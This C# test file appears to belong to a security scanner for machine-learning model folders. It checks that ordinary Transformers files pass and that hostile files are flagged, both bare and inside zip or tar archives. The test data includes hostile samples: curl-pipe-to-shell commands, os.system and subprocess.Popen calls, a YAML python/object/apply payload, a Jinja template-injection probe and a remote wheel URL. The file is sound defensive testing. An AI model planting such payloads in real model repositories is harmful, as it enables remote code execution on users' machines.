// Folders as tools write them pass with everything read, and one hostile file among them is found; an archive of the same files says the same.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Conversion;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Texts;

public sealed class ModelFolderTests
{
    private static readonly byte[] s_weights = WeightFiles.Safetensors("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 8);

    private static readonly (string Name, string Text)[] s_transformers =
    [
        ("config.json", """{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8}"""),
        ("generation_config.json", """{"bos_token_id": 1}"""),
        ("tokenizer_config.json", """{"tokenizer_class": "BertTokenizer", "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}"""),
        ("tokenizer.json", """{"version": "1.0", "added_tokens": [], "model": {"type": "WordPiece", "vocab": {"a": 0}}}"""),
        ("special_tokens_map.json", """{"cls_token": "[CLS]"}"""),
        ("vocab.txt", "[PAD]\n[CLS]\nhello\n"),
        ("README.md", "---\nlicense: mit\n---\n# Card\n"),
        (".gitattributes", "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"),
        ("requirements.txt", "torch>=2\n"),
        ("modeling_x.py", "import torch\nclass A(torch.nn.Module):\n    def forward(self, x):\n        return x\n"),
    ];

    private static ZipBuilder Zip(IEnumerable<(string Name, string Text)> files)
    {
        ZipBuilder zip = new();
        zip.Add("model.safetensors", s_weights);
        foreach ((string name, string text) in files)
        {
            zip.Add(name, Encoding.UTF8.GetBytes(text));
        }

        return zip;
    }

    [Fact]
    public void AModelOfTransformersPassesWithEverythingRead()
    {
        foreach ((string name, string text) in s_transformers)
        {
            TargetReport file = Scans.Of(Encoding.UTF8.GetBytes(text), name, named: false);
            Assert.True(file.Verdict == Verdict.Passed, name + file.Describe());
            file.AssertComplete();
        }

        TargetReport archive = Scans.Of(Zip(s_transformers).Build(), "model.zip");
        Assert.True(archive.Verdict == Verdict.Passed, archive.Describe());
        Assert.Empty(archive.Unread);
    }

    [Theory]
    [InlineData("hubconf.py", "import os\nos.system('./x')\n")]
    [InlineData("chat_template.jinja", "{{ ''.__class__ }}")]
    [InlineData("setup.sh", "curl http://example.com/x | sh\n")]
    [InlineData("extra.yaml", "a: !!python/object/apply:os.system [id]\n")]
    [InlineData("requirements-gpu.txt", "http://203.0.113.9/x.whl\n")]
    [InlineData("demo.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"!curl http://example.com | sh\"}], \"nbformat\": 4}")]
    public void T217_OneHostileFileIsFoundBareAndInAnArchive(string name, string text)
    {
        Assert.True(Scans.Of(Encoding.UTF8.GetBytes(text), name, named: false).Verdict >= Verdict.Suspicious);
        Assert.True(Scans.Of(Zip(s_transformers.Append((name, text))).Build(), "model.zip").Verdict >= Verdict.Suspicious);
        TarBuilder tar = new();
        tar.Add(name, Encoding.UTF8.GetBytes(text));
        Assert.True(Scans.Of(tar.Build(), "model.tar").Verdict >= Verdict.Suspicious);
    }

    [Fact]
    public void T163_ANemoTarIsReadWithItsConfiguration()
    {
        Assert.True(Scans.Of(new TarBuilder().Add("model_config.yaml", "a:\n  _target_: subprocess.Popen\n"u8.ToArray()).Build(), "x.nemo").Verdict >= Verdict.Suspicious);
        Assert.Equal(Verdict.Passed, Scans.Of(new TarBuilder().Add("./model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\n"u8.ToArray()).Build(), "x.nemo").Verdict);
    }
}
